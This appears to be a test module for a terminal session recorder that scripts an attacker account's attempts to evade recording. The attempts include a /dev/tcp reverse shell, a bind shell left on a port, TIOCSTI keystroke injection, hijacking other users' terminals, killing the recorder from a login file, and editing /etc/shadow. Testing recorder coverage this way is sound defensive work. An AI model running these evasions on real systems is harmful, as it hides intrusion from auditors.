# SPDX-License-Identifier: Apache-2.0
"""Ways in that are not the recorder's, and what stays behind."""
import os
import socket
import subprocess
import threading

import installedrig
from attackrig import MALLORY, PATIENCE
from attackrow import row
from outer import Fail, Outer, until

RACER = '''
import fcntl, termios
seen, held = set(), {}
end = time.monotonic() + 20
open('/home/mallory/ready', 'w').close()
while time.monotonic() < end and not os.path.exists('/home/mallory/stop'):
    for n in range(1, 40):
        if n not in held:
            try:
                held[n] = os.open('/dev/pts/%d' % n, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            except OSError:
                pass
    if os.path.exists('/home/mallory/go'):
        for n, fd in held.items():
            try:
                os.write(fd, mark('raced%d' % n).encode() + b'\\r\\n')
            except OSError:
                pass
        break
time.sleep(1)
'''


def outer_terminal(arena):
    """By name, for reading, writing and control, from his own session and from another of his."""
    arena.write_home('outer.py', 'import sys; sys.path.insert(0, "/opt/rig")\nfrom attacktool import *\n'
                     'tty = sys.argv[1]\n'
                     'attempt("write", lambda: os.write(os.open(tty, os.O_WRONLY | os.O_NOCTTY), mark("outer").encode()))\n'
                     'attempt("read", lambda: os.open(tty, os.O_RDONLY | os.O_NOCTTY))\n'
                     'attempt("path", lambda: os.open(tty, os.O_PATH) and os.open("/proc/self/fd/3", os.O_RDWR))\n'
                     'attempt("own /dev/tty", lambda: os.ttyname(os.open("/dev/tty", os.O_RDWR)) == tty)\n')
    t = arena.terminal()
    t.type(b'python3 outer.py $SSH_TTY; m done1\r')
    t.expect(b'RIGdone1GIR', seconds=PATIENCE)
    tty = [s for s in arena.mine() if s['kind'] == 'tty'][-1]['tty']
    arena.command('setsid python3 outer.py %s' % tty)
    arena.take(bytes(t.shown))
    arena.done(t)
    arena.notes.append('the outer terminal is busy')


def raced(arena):
    """A process of an older session opens each new terminal before the recorder has it for itself."""
    arena.write_home('racer.py', 'import sys; sys.path.insert(0, "/opt/rig")\nfrom attacktool import *\n' + RACER)
    for name in ('ready', 'go', 'stop'):
        if os.path.exists('/home/mallory/' + name):
            os.unlink('/home/mallory/' + name)
    arena.command('setsid nohup python3 racer.py > racer.log 2>&1 < /dev/null & sleep 0.2')
    until(lambda: os.path.exists('/home/mallory/ready'), 'the racer runs', PATIENCE)
    t = arena.terminal()
    arena.write_home('go', '')
    for _ in range(20):
        t.pump(0.1)
    arena.done(t)
    if 'outer-tty-shared' in arena.flags():
        arena.tell('flag', 'outer-tty-shared')


def inject(arena):
    """Keys that nobody typed: TIOCSTI on his own terminal."""
    arena.write_home('sti.py', 'import fcntl, os, sys\nfor c in b"m injected\\r":\n'
                     '    try: fcntl.ioctl(0, 0x5412, bytes([c]))\n'
                     '    except OSError as e: print("denied TIOCSTI:", e); break\n')
    t = arena.terminal()
    t.type(b'python3 sti.py; sleep 0.5; m typed\r')
    t.expect(b'RIGtypedGIR', seconds=PATIENCE)
    arena.done(t)


def second_pty(tool):
    def run(arena):
        if not os.path.exists('/usr/bin/' + tool.split()[0]):
            return 'untested'
        t = arena.terminal()
        at = len(t.shown)
        t.type(tool.encode() + b'\r')
        at = t.expect(b'mal$ ', at, PATIENCE)
        t.type(b'm inner\r')
        at = t.expect(b'mal$ ', t.expect(b'RIGinnerGIR', at, PATIENCE), PATIENCE)
        t.type(b'exit\r')
        t.expect(b'mal$ ', at, PATIENCE)
        arena.done(t)
    return run


def multiplexer(arena):
    """A tmux that outlives its session, and is taken up again in another one."""
    if not os.path.exists('/usr/bin/tmux'):
        return 'untested'
    t = arena.terminal()
    t.type(b'tmux -L rig new -s one\r')
    t.expect(b'\x1b[', start=len(t.shown), seconds=PATIENCE)
    t.type(b'. ~/.bashrc; clear; m first\r')
    t.expect(b'RIGfirstGIR', seconds=PATIENCE)
    arena.see(t.shown)
    t.close()
    until(lambda: not [s for s in arena.mine() if s['state'] == 'open'], 'the first session ended', PATIENCE)
    t = arena.terminal()
    t.type(b'tmux -L rig attach\r')
    t.expect(b'RIGfirstGIR', seconds=PATIENCE)
    t.type(b'm second\r')
    t.expect(b'RIGsecondGIR', seconds=PATIENCE)
    t.type(b'tmux kill-server\r')
    arena.see(t.shown)
    t.close()


def left_behind(arena):
    """A process that outlives its session: nothing of it is seen, but it should be told of."""
    arena.command('setsid nohup sh -c "sleep 1; echo RIG""lateGIR > late; sleep 60" > /dev/null 2>&1 &')
    until(lambda: os.path.exists('/home/mallory/late'), 'it lives on', PATIENCE)
    if 'left-behind' in arena.flags():
        return None
    arena.seen.add(b'RIGlateGIR')
    return None


LEADERLESS = '''
import ctypes, os, platform, threading, time
def work():
    time.sleep(1)
    open('/home/mallory/late', 'w').write(mark('late'))
    time.sleep(60)
if os.fork():
    os._exit(0)
os.setsid()
threading.Thread(target=work).start()
ctypes.CDLL(None).syscall({'x86_64': 60}.get(platform.machine(), 93), 0)  # this thread alone
'''


def leaderless(arena):
    """A process whose first thread has ended looks like one that is dead, and is not."""
    if os.path.exists('/home/mallory/late'):
        os.unlink('/home/mallory/late')
    arena.write_home('leaderless.py', 'import sys; sys.path.insert(0, "/opt/rig")\nfrom attacktool import *\n' + LEADERLESS)
    arena.command('python3 leaderless.py > /dev/null 2>&1 < /dev/null; sleep 0.5')
    until(lambda: os.path.exists('/home/mallory/late'), 'it lives on', PATIENCE)
    if 'left-behind' not in arena.flags():
        arena.seen.add(b'RIGlateGIR')


def other_terminal(arena):
    """He writes to the inner terminal of his other session, and to alice's."""
    t = arena.terminal()
    t.type(b'tty; m ready\r')
    t.expect(b'RIGreadyGIR', seconds=PATIENCE)
    tty = [w for w in bytes(t.shown).split() if w.startswith(b'/dev/pts/')][-1].decode()
    arena.command('printf RIG""crossGIR > %s' % tty)
    t.expect(b'RIGcrossGIR', seconds=PATIENCE)
    out = arena.command('for p in /dev/pts/*; do (echo x > $p) 2>&1; (cat < $p & sleep 0.1; kill $!) 2>&1; done; '
                        'for p in /dev/pts/[0-9]*; do [ -O $p ] || { [ -w $p ] || [ -r $p ]; } && '
                        '{ [ -O $p ] || echo "GOT $p"; }; done')
    arena.done(t)
    return out and None


def banner(server, count=1):
    """A service that shows a mark to whoever connects; its thread."""
    def serve():
        try:
            for _ in range(count):
                c = server.accept()[0]
                c.sendall(b'RIGforwardedGIR\n')
                c.close()
        except OSError:
            pass

    threading.Thread(target=serve, daemon=True).start()


def forward(arena, *options):
    """No shell at all: what comes through the forwarded port is seen."""
    with socket.socket() as server:
        server.bind(('127.0.0.1', 0))
        server.listen(5)
        banner(server)
        port = server.getsockname()[1]
        if options == ('-W',):
            out, _, _ = arena.host.ssh('mallory', None, '-W', '127.0.0.1:%d' % port, seconds=PATIENCE)
            arena.see(out)
        else:
            local = 30000 + port % 20000
            p = subprocess.Popen(arena.host.ssh_argv('mallory', *options, '-L', '127.0.0.1:%d:127.0.0.1:%d' % (local, port)),
                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                 env=arena.host.env())
            try:
                arena.see(until(lambda: through(local), 'the port is forwarded', PATIENCE))
            finally:
                p.kill()
                p.wait()
    connections(arena)


def through(port):
    with socket.socket() as s:
        s.settimeout(10)
        try:
            s.connect(('127.0.0.1', port))
            return s.recv(100)
        except OSError:
            return b''


def connections(arena):
    """A connection without a session: the host's journal tells."""
    try:
        if arena.host.witness and until(lambda: arena.journal() > arena.journal_at, 'the connection is told of', 30):
            arena.tell('host journal', 'connection-unrecorded')
    except Fail:
        pass


def sftp_argv(arena):
    return ['sftp', '-q', '-F', 'none', '-P', str(installedrig.PORT), '-i', '/run/rig.key', '-o', 'StrictHostKeyChecking=no', '-o',
            'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR', '-b', '-', 'mallory@127.0.0.1']


def sftp(arena):
    """Takes a file away with sshd's file server; True when it came."""
    arena.write_home('loot', 'RIG%sGIR' % 'loot')
    if os.path.exists('/run/loot'):
        os.unlink('/run/loot')
    p = subprocess.run(sftp_argv(arena), input=b'get loot /run/loot\n', stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                       env=arena.host.env(), timeout=PATIENCE)
    if not os.path.exists('/run/loot'):
        arena.notes.append('no file came: %r' % p.stdout[-100:])
        return False
    with open('/run/loot', 'rb') as f:
        arena.see(f.read())
    return True


def sftp_external(arena):
    if not sftp(arena):
        return 'refused'


def with_sshd(settings, then):
    def run(arena):
        arena.host.start_sshd(settings)
        try:
            return then(arena)
        finally:
            arena.host.start_sshd()
    return run


def sftp_internal(arena):
    if not sftp(arena):
        return 'refused'
    if not arena.doctor('bypassable'):
        connections(arena)


def force_command(arena):
    """A user whose shell is bash, under ForceCommand: his ~/.bashrc is first."""
    with open('/home/plain/.bashrc', 'w') as f:
        f.write('echo RIG""bashrcGIR; exec /bin/bash --norc -c "echo RIG""plainGIR"\n')
    arena.see(arena.host.ssh('plain', 'true')[0])
    arena.doctor('bypassable')


def force_command_recorded(arena):
    arena.write_home('.bashrc', 'm() { echo "RIG${1}GIR"; }\nPS1="mal\\$ "\necho RIG""rcGIR\n')
    try:
        arena.command('echo RIG""orderedGIR')
    finally:
        arena.prepare()


def rc(arena):
    """~/.ssh/rc runs before the shell."""
    arena.write_home('.ssh/rc', 'echo RIG""rcGIR; (sleep 1; echo RIG""lateGIR) & exec 3<>$SSH_TTY && echo RIG""threeGIR >&3\n')
    try:
        t = arena.terminal()
        for _ in range(15):
            t.pump(0.1)
        arena.done(t)
    finally:
        os.unlink('/home/mallory/.ssh/rc')


def start_up_files(arena):
    """~/.bashrc and ~/.bash_profile replace the shell, and kill the recorder."""
    arena.write_home('.bash_profile', 'echo RIG""profileGIR; exec /bin/bash --norc -c "echo RIG""execGIR; kill -9 \\$PPID; '
                     'sleep 0.2; echo RIG""afterGIR"\n')
    try:
        arena.gone(arena.host.login('mallory'))
    finally:
        arena.prepare()
    return 'ended'


def key_command(arena):
    """His own authorized_keys say what is run."""
    with open('/run/rig.key.pub') as f:
        key = f.read()
    path = '.ssh/authorized_keys'
    arena.write_home(path, 'command="/bin/bash -c \'echo RIG\\"\\"keyGIR\'",environment="LD_PRELOAD=/x" ' + key, 0o600)
    try:
        arena.command('true')
    finally:
        arena.write_home(path, key, 0o600)


def multiplexed(arena):
    """Three sessions over one connection."""
    control = '/run/rig.mux'
    p = subprocess.Popen(arena.host.ssh_argv('mallory', '-M', '-S', control, '-N'), stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=arena.host.env())
    try:
        until(lambda: os.path.exists(control), 'the master stands', PATIENCE)
        for n in range(3):
            arena.command('echo RIG""mux%dGIR' % n, '-S', control)
    finally:
        p.kill()
        p.wait()


def own_port(arena):
    """A shell of his own on a port, left behind, and what it shows to whoever connects."""
    arena.write_home('port.py', 'import os, socket\ns = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()\n'
                     'open("port", "w").write(str(s.getsockname()[1]))\nos.rename("port", "ready")\nc = s.accept()[0]\n'
                     'for n in range(3): os.dup2(c.fileno(), n)\nos.execv("/bin/bash", ["bash"])\n')
    arena.command('rm -f ready; setsid nohup python3 port.py > /dev/null 2>&1 < /dev/null &')
    until(lambda: os.path.exists('/home/mallory/ready'), 'it listens', PATIENCE)
    with open('/home/mallory/ready') as f, socket.create_connection(('127.0.0.1', int(f.read())), PATIENCE) as s:
        s.settimeout(PATIENCE)
        s.sendall(b'echo RIG""portGIR; exit\n')
        arena.see(s.recv(100))
    if 'left-behind' in arena.flags():
        arena.tell('flag', 'left-behind')


def reverse(arena):
    """While he is logged in, a shell of his talks to a machine of his."""
    with socket.socket() as server:
        server.bind(('127.0.0.1', 0))
        server.listen(1)
        server.settimeout(PATIENCE)
        t = arena.terminal()
        t.type(b'bash > /dev/tcp/127.0.0.1/%d 0>&1 2>&1 &\r' % server.getsockname()[1])
        c = server.accept()[0]
        c.settimeout(PATIENCE)
        c.sendall(b'echo RIG""reverseGIR; exit\n')
        arena.see(c.recv(100))
        c.close()
        arena.done(t)
    if any(b'/dev/tcp' in arena.host.output(s) for s in arena.mine()):
        arena.tell('record', 'the command that began it')


def dressed(arena):
    """What he looks at, dressed as a private key: tokens are hidden in the record."""
    arena.write_home('pem.py', 'import base64\nprint("-----BEGIN PRIVATE " + "KEY-----")\nfor n in range(12):\n'
                     '    print(("RIG" + "dressed%02dGIR" % n).ljust(64, "A"))\nprint("-----END PRIVATE " + "KEY-----")\n')
    t = arena.terminal()
    t.type(b'python3 pem.py; m plain\r')
    t.expect(b'RIGplainGIR', seconds=PATIENCE)
    arena.done(t)
    if 'token' in arena.flags():
        arena.tell('flag', 'token')


def chsh(arena):
    """He has a password, and gives himself a shell that is not recorded."""
    with open('/etc/shadow') as f:
        before = f.read()
    hashed = subprocess.run(['openssl', 'passwd', '-6', 'secret1'], stdout=subprocess.PIPE).stdout.decode().strip()
    with open('/etc/shadow', 'w') as f:
        f.write(before.replace('mallory:*:', 'mallory:%s:' % hashed))
    with open('/etc/passwd') as f:
        accounts = f.read()
    try:
        t = arena.terminal()
        t.type(b'chsh -s /bin/bash; m changed\r')
        try:
            t.expect(b'assword', seconds=5)
            t.type(b'secret1\r')
        except Fail:
            pass
        t.expect(b'RIGchangedGIR', seconds=PATIENCE)
        arena.done(t)
        arena.command('echo RIG""chshGIR')
        with open('/etc/passwd') as f:
            if f.read() == accounts:
                return 'refused'
        out = arena.host.ttytrail('doctor', '--db', installedrig.DB)[0].decode()
        if any('mallory' in line and 'not recorded' in line for line in out.splitlines()):
            arena.tell('doctor', 'a shell of his own, not recorded')
        else:
            connections(arena)
    finally:
        for path, text in (('/etc/shadow', before), ('/etc/passwd', accounts)):
            with open(path, 'w') as f:
                f.write(text)


def chsh_unlisted(arena):
    with open('/etc/shells') as f:
        before = f.read()
    with open('/etc/shells', 'w') as f:
        f.writelines(line for line in before.splitlines(True) if 'ttytrail' not in line)
    try:
        return chsh(arena)
    finally:
        with open('/etc/shells', 'w') as f:
            f.write(before)


ROWS = [
    row('escaping', 'the outer terminal by name', '$SSH_TTY read and written, from two sessions', 'recorded', outer_terminal,
        quick=True),
    row('escaping', 'the outer terminal, raced', 'opened by an older process before the recorder closes it', 'flagged', raced),
    row('escaping', 'keys by TIOCSTI', 'into his own terminal', 'recorded', inject),
    row('escaping', 'another terminal inside', 'script', 'recorded', second_pty('script -q /dev/null')),
    row('escaping', 'a terminal by python', 'pty.spawn', 'recorded',
        second_pty('python3 -c "import pty; pty.spawn([\'/bin/bash\', \'-i\'])"')),
    row('escaping', 'screen', 'inside the session', 'recorded', second_pty('screen -q bash -i')),
    row('escaping', 'tmux left behind', 'and taken up again from another session', 'recorded', multiplexer),
    row('escaping', 'a process left behind', 'setsid, nohup, double fork', 'flagged', left_behind),
    row('escaping', 'left behind, no first thread', 'a process whose first thread has ended', 'flagged', leaderless, quick=True),
    row('escaping', 'other terminals', "his other session's, and alice's", 'recorded', other_terminal),
    row('escaping', '~/.ssh/rc', 'before the shell, with a job that stays', 'recorded', rc, quick=True),
    row('escaping', 'start-up files', '~/.bash_profile that replaces the shell and kills the recorder', 'ended', start_up_files,
        quick=True),
    row('escaping', 'a command in authorized_keys', 'instead of the shell', 'recorded', key_command),
    row('escaping', 'several on one connection', 'ControlMaster', 'recorded', multiplexed),
    row('escaping', 'ForceCommand, recorded shell', 'with a ~/.bashrc of his own', 'recorded',
        with_sshd('ForceCommand /usr/bin/ttytrail-shell', force_command_recorded)),
    row('escaping', 'ForceCommand, other shell', 'bash reads ~/.bashrc first', 'flagged',
        with_sshd('ForceCommand /usr/bin/ttytrail-shell', force_command)),
    row('escaping', 'ssh -N with a forward', 'no shell is asked for', 'flagged', lambda a: forward(a, '-N')),
    row('escaping', 'ssh -W', 'the same, by standard input', 'flagged', lambda a: forward(a, '-W')),
    row('escaping', 'sftp', 'with the file server that the login shell starts', 'flagged', sftp_external),
    row('escaping', 'internal-sftp', 'with the file server inside sshd', 'flagged',
        with_sshd('Subsystem sftp internal-sftp', sftp_internal), quick=True),
    row('escaping', 'a shell on a port', 'left behind, and used from elsewhere', 'flagged', own_port),
    row('escaping', 'a shell to elsewhere', 'from a session, over the network', 'flagged', reverse),
    row('escaping', 'dressed as a private key', 'text that the record hides as a token', 'flagged', dressed),
    row('escaping', 'chsh', 'he has a password, and gives himself /bin/bash', 'flagged', chsh),
    row('escaping', 'chsh, not in /etc/shells', 'the same where the recorder is not listed there', 'recorded', chsh_unlisted),
]
